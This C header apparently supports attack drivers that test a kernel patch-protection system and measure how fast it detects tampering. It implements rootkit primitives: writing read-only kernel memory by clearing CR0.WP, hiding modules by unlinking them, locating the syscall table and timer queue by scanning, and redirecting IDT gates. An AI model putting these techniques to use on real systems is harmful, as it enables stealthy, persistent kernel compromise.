/* Helpers shared by the attack drivers (attack_*.c): what a rootkit does to
 * find unexported kernel structures with nothing but the export table and
 * the hardware — page-table probing through vm_pte, byte-pattern scans,
 * pointer scans — and the privileged instructions it uses to write them
 * (CR0.WP cleared with interrupts off). Every attack prints what it did on
 * a fixed line; addresses that vary from boot to boot go on "~ " lines. */
#ifndef ATTACK_H
#define ATTACK_H

#include <kpp/driver.h>
#include <kpp/module.h>

#define A_PTE_P (1ull << 0)
#define A_PTE_W (1ull << 1)
#define A_PTE_NX (1ull << 63)
#define A_PTE_ADDR 0x000FFFFFFFFFF000ull
#define A_PAGE 4096ull
#define A_CR0_WP (1ull << 16)
#define A_MULTIBOOT_MAGIC 0x1BADB002u

static inline uint64_t a_rdmsr(uint32_t msr)
{
	uint32_t lo, hi;
	__asm__ volatile("rdmsr" : "=a"(lo), "=d"(hi) : "c"(msr));
	return ((uint64_t)hi << 32) | lo;
}

static inline void a_wrmsr(uint32_t msr, uint64_t v)
{
	__asm__ volatile("wrmsr" ::"c"(msr), "a"((uint32_t)v), "d"((uint32_t)(v >> 32)));
}

static inline uint64_t a_read_cr0(void)
{
	uint64_t v;
	__asm__ volatile("mov %%cr0, %0" : "=r"(v));
	return v;
}

static inline void a_write_cr0(uint64_t v) { __asm__ volatile("mov %0, %%cr0" ::"r"(v) : "memory"); }

static inline uint64_t a_cli(void)
{
	uint64_t f;
	__asm__ volatile("pushfq; popq %0; cli" : "=r"(f)::"memory");
	return f;
}

static inline void a_restore(uint64_t f)
{
	if (f & (1ull << 9))
		__asm__ volatile("sti" ::: "memory");
}

/* Write len bytes over read-only memory: interrupts off, CR0.WP off. */
static inline void a_write_protected(void *dst, const void *src, size_t len)
{
	uint64_t f = a_cli();
	uint64_t cr0 = a_read_cr0();
	a_write_cr0(cr0 & ~A_CR0_WP);
	volatile uint8_t *d = dst;
	const uint8_t *s = src;
	for (size_t i = 0; i < len; i++)
		d[i] = s[i];
	a_write_cr0(cr0);
	a_restore(f);
}

static inline bool a_mapped(uint64_t va) { return vm_pte(va) & A_PTE_P; }

/* The kernel image: the page holding the Multiboot header, found by walking
 * down from an exported function, and the last mapped page after it. */
static inline uint64_t a_kernel_base(void)
{
	uint64_t p = (uint64_t)&printk & ~(A_PAGE - 1);
	while (a_mapped(p - A_PAGE)) {
		if (*(volatile uint32_t *)p == A_MULTIBOOT_MAGIC)
			return p;
		p -= A_PAGE;
	}
	return p;
}

static inline uint64_t a_kernel_end(uint64_t base)
{
	uint64_t p = base;
	while (a_mapped(p))
		p += A_PAGE;
	return p;
}

/* Page classes by their rights: text R-X, read-only data R--, data RW-. */
enum { A_TEXT, A_RODATA, A_DATA };
static inline int a_page_class(uint64_t va)
{
	uint64_t pte = vm_pte(va);
	if (pte & A_PTE_W)
		return A_DATA;
	return (pte & A_PTE_NX) ? A_RODATA : A_TEXT;
}

/* First occurrence of pat in the kernel's pages of class cls, or 0. */
static inline uint64_t a_find(int cls, const void *pat, size_t len)
{
	uint64_t base = a_kernel_base(), end = a_kernel_end(base);
	for (uint64_t p = base; p < end; p += A_PAGE) {
		if (a_page_class(p) != cls)
			continue;
		for (uint64_t q = p; q < p + A_PAGE && q + len <= end; q++)
			if (!memcmp((const void *)q, pat, len))
				return q;
	}
	return 0;
}

/* Is va plausibly a kernel object: mapped, 8-aligned. */
static inline bool a_ptr_ok(uint64_t va, size_t size)
{
	return va && !(va & 7) && (va >> 47) == 0x1FFFF && a_mapped(va) && a_mapped(va + size - 1);
}

static inline bool a_in_kernel_text(uint64_t va)
{
	uint64_t base = a_kernel_base(), end = a_kernel_end(base);
	return va >= base && va < end && a_page_class(va & ~(A_PAGE - 1)) == A_TEXT;
}

/* The module record of driver drv (the loader embeds the driver object in it). */
static inline struct module *a_module_of(struct driver_object *drv)
{
	return (struct module *)((uint64_t)drv - __builtin_offsetof(struct module, drv));
}

/* The slot of the kernel's module lookup table that points at module m,
 * found by a scan of the kernel's writable data for a pointer to m that is
 * not a list link (those are m's neighbours'); NULL when there is none. */
static inline uint64_t *a_module_slot(struct module *m)
{
	uint64_t base = a_kernel_base(), end = a_kernel_end(base);
	for (uint64_t p = base; p < end; p += A_PAGE) {
		if (a_page_class(p) != A_DATA)
			continue;
		for (uint64_t *q = (uint64_t *)p; (uint64_t)q < p + A_PAGE; q++)
			if (*q == (uint64_t)m && q != (uint64_t *)&m->prev && !(m->prev && q == (uint64_t *)&m->prev->next))
				return q;
	}
	return NULL;
}

/* Removes module m from the loaded-module list and, when slot is not NULL,
 * from the module table. Interrupts must be off. */
static inline void a_hide_module(struct module *m, uint64_t *slot)
{
	if (m->prev)
		m->prev->next = m->next;
	if (m->next)
		m->next->prev = m->prev;
	if (slot)
		*slot = 0;
}

/* The head of the kernel's timer queue, found the way a rootkit finds an
 * unexported list head: arm a timer of our own, then look in the kernel's
 * writable data for a pointer from which the next-links reach it. */
static inline struct ktimer **a_find_timer_queue(struct ktimer *mine)
{
	uint64_t base = a_kernel_base(), end = a_kernel_end(base);
	for (uint64_t p = base; p < end; p += A_PAGE) {
		if (a_page_class(p) != A_DATA)
			continue;
		for (uint64_t q = p; q < p + A_PAGE; q += 8) {
			struct ktimer *t = *(struct ktimer **)q;
			for (int n = 0; n < 64 && a_ptr_ok((uint64_t)t, sizeof *t); n++, t = t->next)
				if (t == mine)
					return (struct ktimer **)q;
		}
	}
	return NULL;
}

/* Kernel timers in the queue (found through a probe timer of our own)
 * whose DPC routine lies in kernel text and whose period is period_ticks
 * (0: one-shot). Interrupts must be off. */
static inline int a_kernel_timers(struct ktimer *probe, uint64_t period_ticks, struct ktimer **out, int max)
{
	struct ktimer **head = a_find_timer_queue(probe);
	int n = 0;
	if (!head)
		return -1;
	for (struct ktimer *t = *head; t && n < max; t = t->next) {
		if (t == probe || t->period != period_ticks || !a_ptr_ok((uint64_t)t->dpc, sizeof *t->dpc))
			continue;
		if (a_in_kernel_text((uint64_t)t->dpc->fn))
			out[n++] = t;
	}
	return n;
}

/* The system service table: the LEA of SYSCALL's entry point (LSTAR) that
 * loads its address into R11 (4C 8D 1D rel32). */
static inline uint64_t *a_find_service_table(void)
{
	const uint8_t *p = (const uint8_t *)a_rdmsr(0xC0000082);
	for (int i = 0; i < 128; i++)
		if (p[i] == 0x4C && p[i + 1] == 0x8D && p[i + 2] == 0x1D) {
			int32_t rel;
			memcpy(&rel, p + i + 3, 4);
			return (uint64_t *)(p + i + 7 + rel);
		}
	return NULL;
}

/* When the patch went in (a timing line: the host and tests measure the
 * detection latency against "~ pg: detected at"). */
static inline void a_patched(const char *who)
{
	uint64_t ns = clock_ns();
	printk("~ %s: patched at %lu.%06lu s guest time\n", who, ns / 1000000000ul, ns % 1000000000ul / 1000);
}

static inline void a_sleep_ms(uint64_t ms)
{
	uint64_t end = clock_ns() + ms * 1000000ull;
	while (clock_ns() < end)
		__asm__ volatile("sti; hlt" ::: "memory");
}

/* A 64-bit IDT gate, the IDT that SIDT names, and a gate's handler address. */
struct gate {
	uint16_t off_lo, sel;
	uint8_t ist, attr;
	uint16_t off_mid;
	uint32_t off_hi, reserved;
} __attribute__((packed));

struct a_dtr {
	uint16_t limit;
	uint64_t base;
} __attribute__((packed));

static inline struct gate *a_idt(void)
{
	struct a_dtr idtr;
	__asm__ volatile("sidt %0" : "=m"(idtr));
	return (struct gate *)idtr.base;
}

/* The GDT that SGDT names, its descriptors as qwords. */
static inline uint64_t *a_gdt(void)
{
	struct a_dtr gdtr;
	__asm__ volatile("sgdt %0" : "=m"(gdtr));
	return (uint64_t *)gdtr.base;
}

static inline uint64_t a_gate_target(const struct gate *g)
{
	return g->off_lo | (uint64_t)g->off_mid << 16 | (uint64_t)g->off_hi << 32;
}

static inline void a_gate_point(struct gate *g, uint64_t to)
{
	g->off_lo = to & 0xFFFF;
	g->off_mid = (to >> 16) & 0xFFFF;
	g->off_hi = to >> 32;
}

#endif
